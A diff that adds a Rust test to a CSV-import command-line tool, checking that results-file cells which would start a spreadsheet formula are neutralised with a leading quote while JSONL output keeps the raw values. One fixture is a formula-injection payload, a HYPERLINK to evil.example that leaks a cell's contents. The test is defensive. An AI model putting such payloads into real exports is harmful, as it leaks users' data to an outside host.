@@ -1710,3 +1710,75 @@ fn a_conversation_whose_connection_dropped_is_not_sent_again_by_a_re_run() {
     assert_eq!(forced.code, 0, "{}", forced.stderr);
     assert_eq!(cli.results("r4.csv")[&3].0, "created");
 }
+
+/// Issue 17 item 4: a key a spreadsheet would run as a formula (`=HYPERLINK(...)`, `@SUM`,
+/// `+`, `-`) gets a leading `'` in a CSV results file, while the `input` cell keeps the row
+/// as read (a re-feed reads that) and a JSONL results file keeps the values exactly.
+#[test]
+fn results_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_is_unchanged() {
+    let sandbox = Sandbox::start(vec![]);
+    let cli = Cli::new(&sandbox);
+    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
+    let from = cli.write(
+        "formulas.csv",
+        &format!(
+            "externalId,email\n\"{}\",a@example.com\n@SUM(1+1),b@example.com\n+1,c@example.com\n-1,d@example.com\nplain,e@example.com\n",
+            formula.replace('"', "\"\"")
+        ),
+    );
+    let args = ["--key", "externalId", "--dry-run"];
+    let run = cli.push("contacts", &from, "formulas-results.csv", &args);
+    assert!([0, 5].contains(&run.code), "{}", run.stderr);
+    let mut reader = csv::Reader::from_path(cli.path("formulas-results.csv")).unwrap();
+    let mut rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    rows.sort_by_key(|r| r[0].parse::<u64>().unwrap());
+    let keys: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
+    assert_eq!(
+        keys,
+        [
+            format!("'{formula}").as_str(),
+            "'@SUM(1+1)",
+            "'+1",
+            "'-1",
+            "plain"
+        ]
+    );
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell starts a formula: {cell:?}"
+            );
+        }
+    }
+    let input: Value = serde_json::from_str(&rows[0][5]).unwrap();
+    assert_eq!(
+        input["externalId"], formula,
+        "the input cell keeps the row as read"
+    );
+
+    let jsonl = cli.push("contacts", &from, "formulas-results.jsonl", &args);
+    assert!([0, 5].contains(&jsonl.code), "{}", jsonl.stderr);
+    let text = std::fs::read_to_string(cli.path("formulas-results.jsonl")).unwrap();
+    let first: Value = text
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|l| l["row"] == 1)
+        .unwrap();
+    assert_eq!(first["key"], formula, "JSONL results are unchanged");
+
+    let results = cli.path("formulas-results.csv").display().to_string();
+    let again = cli.push("contacts", &results, "formulas-again.csv", &args);
+    assert!([0, 5].contains(&again.code), "{}", again.stderr);
+    let mut reader = csv::Reader::from_path(cli.path("formulas-again.csv")).unwrap();
+    let first = reader
+        .records()
+        .map(|r| r.unwrap())
+        .find(|r| &r[0] == "1")
+        .unwrap();
+    assert_eq!(
+        &first[1],
+        format!("'{formula}"),
+        "a re-fed results file reads the original value, not the neutralised cell"
+    );
+}
